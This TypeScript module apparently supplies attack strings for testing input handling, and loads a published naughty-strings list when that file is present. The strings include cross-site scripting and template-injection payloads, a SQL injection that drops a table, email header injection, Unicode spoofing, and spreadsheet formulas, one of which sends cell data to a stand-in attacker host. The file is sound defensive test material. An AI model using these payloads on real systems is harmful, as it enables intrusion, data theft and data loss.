import { existsSync, readFileSync } from 'node:fs'

/** What runs, breaks a query, a header, a sheet or a layout wherever a text is not taken as a text. */
export const attacks: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '</script></title></textarea><script>alert(1)</script>',
  'javascript:alert(1)',
  '\'-alert(1)-\'" autofocus onfocus=alert(1) x="',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would calculate.
  "{{constructor.constructor('alert(1)')()}} ${7*191} #{7*191} <%= 7*191 %>",
  '<a href="//evil.example" style="position:fixed;inset:0;z-index:9999">x</a>',
  '![x](http://evil.example/p.png) [x](javascript:alert(1)) <style>@import "//evil.example/c";</style>',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'; drop table candidates.candidate; --",
  'x\r\nBcc: victim@evil.example\r\n\r\n<b>x',
  'x\u0000\u0007\u001b[31m\u0085\u2028y',
  '\u202eexe.cod\u2066 \u200b\u200d\ufeff',
  'Z̷̡̛̺a̷̢̛̺l̷̡̛̺g̷̡̛̺ơ̷̡̺ ﷽ 👩‍👩‍👧‍👦 اَلسَّلَامُ',
  '__proto__',
  'W'.repeat(190),
]

const list = '../shared/corpus/files/naughty-strings/blns.json'

/** The published list of naughty strings, where it lies beside the repository; else nothing. */
export const naughtyStrings = (): readonly string[] =>
  existsSync(list) ? (JSON.parse(readFileSync(list, 'utf8')) as string[]) : []
